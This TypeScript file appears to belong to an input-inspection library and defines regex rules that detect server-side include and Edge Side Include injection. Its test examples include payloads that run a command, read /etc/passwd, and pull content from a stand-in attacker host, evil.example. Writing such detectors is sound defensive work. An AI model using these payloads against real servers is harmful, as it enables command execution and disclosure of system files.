import type { PatternRule, PayloadGrammar } from './grammar.ts'
import { firstMatch } from './grammar.ts'

/** Directives of server-side includes (Apache mod_include) and of Edge Side Includes (W3C note of 2001). */
const rules: readonly PatternRule[] = [
  [
    'directive',
    0.95,
    /<!--#\s?(?:exec|include|echo|set|printenv|config|flastmod|fsize|if|elif|else|endif)\b/,
  ],
  [
    'edge-include',
    0.93,
    /<\/?esi:(?:include|inline|remove|vars|choose|try|assign|comment|debug)\b|<!--esi\b/,
  ],
]

export const serverSideInclude: PayloadGrammar = {
  kind: 'ssi-injection',
  triggers: ['<!--#', '<esi:', '</esi:', '<!--esi'],
  inspect: (_value, lower) => firstMatch('ssi-injection', rules, lower),
  examples: {
    hits: [
      '<!--#exec cmd="ls" -->',
      '<!--#include virtual="/etc/passwd" -->',
      '<!--#echo var="DATE_LOCAL" -->',
      '<esi:include src="http://evil.example/"/>',
    ],
    misses: ['<!-- a comment -->', '<!--# heading -->', 'exec cmd', 'esi: the index', '<!--[if IE]>'],
  },
}
